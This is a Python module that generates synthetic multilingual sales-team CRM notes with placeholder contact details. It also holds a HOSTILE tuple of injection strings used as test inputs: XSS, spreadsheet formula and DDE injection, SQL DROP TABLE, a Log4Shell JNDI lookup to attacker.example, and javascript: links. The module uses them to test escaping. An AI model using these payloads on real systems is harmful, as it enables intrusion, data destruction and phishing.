"""Free text as sales teams write it, with names, telephone numbers and addresses in it, and some hostile text."""

import numpy as np
import pandas as pd

__all__ = ["HOSTILE", "notes"]

HOSTILE = (
    "<script>alert('crm')</script>",
    "<img src=x onerror=alert(1)>",
    '=HYPERLINK("http://phishing.example","Apri offerta")',
    "=2+5+cmd|' /C calc'!A0",
    "Robert'); DROP TABLE leads;--",
    "${jndi:ldap://attacker.example/a}",
    "[clicca qui](javascript:alert(document.domain))",
    "$$\\href{javascript:alert(1)}{x}$$ </details><style>body{display:none}</style>",
)
"""Text that must stay text wherever it is shown."""

_PERSONAL = (
    # by language of names.LANGUAGES; {n} full name, {f} first name, {e} e-mail, {t} telephone
    (
        "Sentito {n} al {t}, vuole una seconda offerta entro fine mese.",
        "Scrivere a {e}: {f} chiede il disegno della linea.",
        "Incontrato in fiera il sig. {n}. Richiamare al {t} dopo le 15.",
        "{n} in ferie fino a lunedì, in copia la segreteria ({e}).",
        "Decide {f} con il padre; cellulare {t}.",
        "Inviato preventivo a {e}, attende conferma dal consiglio.",
    ),
    (
        "Mit {n} telefoniert ({t}), Angebot bis Freitag gewünscht.",
        "Unterlagen an {e} geschickt, Rückruf nächste Woche.",
        "Herr/Frau {n} entscheidet im Herbst, Tel. {t}.",
    ),
    (
        "Appel avec {n} ({t}), relancer après le salon.",
        "Documentation envoyée à {e}. {f} revient vers nous.",
    ),
    (
        "Hablado con {n}, tel. {t}: pide plazo de entrega.",
        "Enviar oferta revisada a {e}, a la atención de {f}.",
    ),
)
_PLAIN = (
    (
        "Interessato alla linea, budget da confermare.",
        "Chiede tempi di consegna e ricambi.",
        "Ha già una macchina della concorrenza, contratto in scadenza.",
        "Richiamare dopo la fiera.",
        "Vuole visitare lo stabilimento.",
        "Prezzo troppo alto rispetto all'ultima offerta.",
    ),
    ("Braucht Lösung bis Q3, Budget offen.", "Wettbewerber im Haus, Wartung unzufrieden.", "Technische Fragen offen."),
    ("Projet à confirmer au prochain semestre.", "Demande une visite d'usine."),
    ("Proyecto aplazado, volver a llamar.", "Pide referencias en el sector."),
)


def notes(
    contacts: pd.DataFrame, language: np.ndarray, *, written: np.ndarray, personal: np.ndarray, rng: np.random.Generator
) -> np.ndarray:
    """Return one note per row of `contacts` where `written`, with the person's data in it where `personal`."""
    share = rng.random(len(language))
    result = np.full(len(language), None, dtype=object)
    fields = contacts[["first_name", "last_name", "email", "phone"]].to_numpy(dtype=object)
    for row in np.flatnonzero(written):
        forms = (_PERSONAL if personal[row] else _PLAIN)[language[row]]
        first, last, email, phone = fields[row]
        form = forms[int(share[row] * len(forms))]
        result[row] = form.format(n=f"{first} {last}", f=first, e=email, t=phone)
    return result
